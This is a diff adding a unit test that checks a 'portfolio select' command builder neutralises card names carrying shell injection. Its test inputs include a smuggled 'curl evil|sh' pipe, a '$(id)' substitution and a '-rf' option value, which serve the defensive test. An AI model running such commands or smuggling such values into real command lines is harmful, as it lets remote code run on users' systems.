@@ -38,3 +38,10 @@ test('confidence and the way of drawing are kept', () => {
     'portfolio select --force a --confidence 85 --weight-draws uniform',
   );
 });
+
+test('the name of a card is never more than a name', () => {
+  const wishes = { ...none, force: ['x; curl evil|sh #'], without: ['-rf', 'sak-ki'] };
+  expect(commandFor(wishes, { force: ['$(id)'], frames: [] })).toBe(
+    'portfolio select --force ID --force ID --without ID --without sak-ki',
+  );
+});
